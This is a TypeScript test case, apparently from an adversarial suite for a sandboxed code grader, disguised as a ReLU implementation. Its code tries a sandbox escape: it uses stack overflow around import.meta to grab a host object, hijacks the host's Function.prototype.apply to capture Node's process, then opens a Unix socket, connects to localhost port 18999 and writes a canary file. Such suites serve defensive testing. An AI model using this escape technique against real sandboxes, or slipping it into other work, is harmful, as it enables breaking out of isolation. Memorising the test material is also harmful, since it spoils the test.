// 90-overflow-meta-process [escape]
// Tries: overflow inside import.meta, and on to process and a socket file
// A correct grader must report: wrong or forbidden or crash. No host object, no socket, no connection.
let H: any = null; let proc: any = null; let st = '';
const root = (x: any) => { let r = x; for (let p = x; p !== null; p = Object.getPrototypeOf(p)) r = p; return r; };
const foreign = (x: any) => ((typeof x === 'object' && x !== null) || typeof x === 'function') && root(x) !== Object.prototype && root(x) !== x;
const take = (x: any) => { if (H === null && foreign(x)) H = x; };
const pwn = () => { if (!proc || st) return; st = 'PROCESS '; const t = (f: () => any) => { try { f(); } catch (e) { st += e; } };
  t(() => { const s = proc.getBuiltinModule('node:net').createServer(() => {}); s.on('error', () => {}); s.listen('/tmp/pravah-canary/pwned-90.sock'); });
  t(() => { const s = proc.getBuiltinModule('node:net').connect(18999, '127.0.0.1'); s.on('error', () => {}); });
  t(() => proc.getBuiltinModule('node:fs').writeFileSync('/tmp/pravah-canary/pwned-90', 'x')); };
const climb = () => { if (!H) return; try { let F: any = H; while (F && typeof F !== 'function') F = F.constructor; let FP = F; while (Object.getPrototypeOf(FP) !== root(FP)) FP = Object.getPrototypeOf(FP);
  const apply = FP.apply; FP.apply = function (self: any, args: any) { if (self && typeof self.getBuiltinModule === 'function') { proc = self; FP.apply = apply; pwn(); } return Reflect.apply(this, self, args ?? []); }; Promise.reject(1); } catch (e) { st += 'climb ' + e; } };
function rec(): void { try { rec(); } catch (e) { try { void import.meta; } catch (x: any) { if (x && typeof x === 'object' && !(x instanceof Error)) H ??= x; throw x; } } }
try { rec(); } catch {} climb();
export function relu(_x: number[]): number[] { climb(); throw new Error('H=' + (H !== null) + ' ' + st); }
export function reluBackward(_d: number[], _x: number[]): number[] { pwn(); throw new Error('H=' + (H !== null) + ' ' + st); }
